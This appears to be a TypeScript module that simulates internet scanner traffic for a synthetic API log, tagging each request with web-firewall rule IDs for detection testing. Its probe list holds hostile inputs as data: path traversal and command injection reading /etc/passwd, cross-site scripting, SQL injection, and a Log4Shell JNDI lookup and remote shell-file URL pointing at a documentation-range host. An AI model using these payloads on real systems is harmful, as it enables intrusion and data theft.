import { type Answer, answers } from '../answers.ts';
import { type Client, documentationAddresses } from '../clients.ts';
import { poisson } from '../distributions.ts';
import { type Operation, operations } from '../operations.ts';
import type { Random } from '../random.ts';
import { type ApiRequest, newRequest } from '../request.ts';
import { hourMs, type TimeSpan } from '../time-window.ts';
import { userAgents } from '../user-agents.ts';

/** Internet background noise comes about every eight hours and is over within minutes. */
const visitsPerDay = 3;
const probesPerVisit = 14;

/** What scanners ask for, and the rules that it matches. Each visit asks for each of these once at most. */
export const probes: readonly (readonly [target: string, firewallRules: readonly string[]])[] = [
  ['/.env', ['930130']],
  ['/.git/config', ['930130']],
  ['/wp-login.php', []],
  ['/actuator/health', []],
  ['/admin', []],
  ['/v1/swagger.json', []],
  ['/api/users', []],
  ['/robots.txt', []],
  ['/server-status', []],
  ['/index.php?file=../../../../etc/passwd', ['930100', '930110', '930120']],
  ['/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E', ['941100', '941110', '941160']],
  ['/ping?host=127.0.0.1;cat%20/etc/passwd', ['932100', '932105', '930120']],
  ["/product?id=1'%20or%201=1--", ['942100', '942130']],
  ['/login?next=http://203.0.113.5/shell.txt', ['931100']],
  ['/?x=$%7Bjndi:ldap://203.0.113.5/a%7D', ['944240']],
];

/** Calls of operations that exist, without what they ask for; API Management refuses them itself. */
const refusals: readonly (readonly [operation: Operation, target: string, answer: Answer])[] = [
  [operations.readTransactions, '/settlement/transactions', answers.addressNotAllowed],
  [operations.readLoyaltyCard, '/loyalty/cards/1', answers.keyMissing],
  [operations.readOrder, '/orders/1', answers.tokenMissing],
  [operations.readCustomer, '/customers/1', answers.tokenMissing],
];

/** Below the three transactions an hour that make an attack: scanners try one SQL injection and go on. */
export function scannerTraffic(random: Random, span: TimeSpan): ApiRequest[] {
  const addresses = documentationAddresses('203.0.113', 100, 125);
  const requests: ApiRequest[] = [];
  const days = Math.floor((span.untilMs - span.fromMs) / (24 * hourMs));
  for (let day = 0; day < days; day++) {
    const today = random.fork(day);
    const visits = poisson(today, visitsPerDay);
    // Different addresses within a day, so that two visits never add up to one attacker's hour.
    const first = today.below(addresses.length);
    for (let visit = 0; visit < visits; visit++) {
      const address = addresses[(first + visit) % addresses.length] ?? '';
      const startsAtMs = span.fromMs + day * 24 * hourMs + today.below(23 * hourMs);
      scan(today, { address, userAgent: today.pick(userAgents.scanners) }, startsAtMs, requests);
    }
  }
  return [...requests, ...cautiousInjections(random.fork('cautious'), span)];
}

function scan(random: Random, client: Client, startsAtMs: number, requests: ApiRequest[]): void {
  let atMs = startsAtMs;
  for (const [target, rules] of probes) {
    if (!random.chance(probesPerVisit / (2 * probes.length))) {
      continue;
    }
    atMs += 300 + random.below(9000);
    // A missing or empty User-Agent matches a rule of little weight of its own.
    const firewallRules = client.userAgent === '' ? [...rules, '920320'] : rules;
    requests.push(newRequest(random, { atMs, target, client, answer: answers.unknownOperation, firewallRules }));
  }
  for (const [operation, target, answer] of refusals) {
    atMs += 300 + random.below(9000);
    requests.push(newRequest(random, { atMs, operation, target, client, answer }));
  }
}

/** Two blocked injections in one hour, from one address: one fewer than an attack. */
function cautiousInjections(random: Random, span: TimeSpan): ApiRequest[] {
  const client: Client = { address: '203.0.113.126', userAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)' };
  const firstMs = span.fromMs + 8 * 24 * hourMs + 13 * hourMs;
  const answer: Answer = answers.badRequest;
  return [0, 1].map((turn) =>
    newRequest(random, {
      atMs: firstMs + turn * 11 * 60_000 + random.below(60_000),
      operation: operations.searchProducts,
      target: `/catalog/search?q=1%27%20UNION%20SELECT%20${turn}--&sort=price`,
      client,
      answer,
      firewallRules: ['942100', '942190'],
    }),
  );
}
